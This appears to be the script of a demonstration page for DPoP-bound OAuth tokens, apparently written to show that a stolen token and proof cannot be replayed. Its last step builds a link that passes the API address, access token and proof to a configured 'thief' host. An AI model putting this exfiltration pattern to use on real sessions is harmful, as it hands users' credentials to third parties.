import { Client } from './dpop.js';

const show = (id, text) => { document.getElementById(id).textContent = text; };

try {
  const { issuer, api, thief } = await (await fetch('config.json')).json();
  const client = await Client.create();
  show('key', await client.thumbprint());
  show('exported', await client.export().then(() => 'there for all to see', (error) => error.name));

  // This page's own server makes a client of each browser, by its public key.
  const registered = await fetch('clients', { method: 'POST', body: JSON.stringify(client.publicKey) });
  const { client_id: clientID } = await registered.json();

  // All of the rest is of other origins.
  const metadata = await (await fetch(`${issuer}/.well-known/oauth-authorization-server`)).json();
  const token = await client.token(metadata, clientID, 'accounts');
  let proof;
  for (const id of ['first', 'second']) {
    const call = await client.get(`${api}/accounts?of=me`, token);
    show(id, `${call.response.status} ${await call.response.text()}`);
    proof = call.proof;
  }
  document.getElementById('stolen').href = `${thief}#${new URLSearchParams({ api, token, proof })}`;
  show('done', 'done');
} catch (error) {
  show('done', `failed: ${error}`);
}
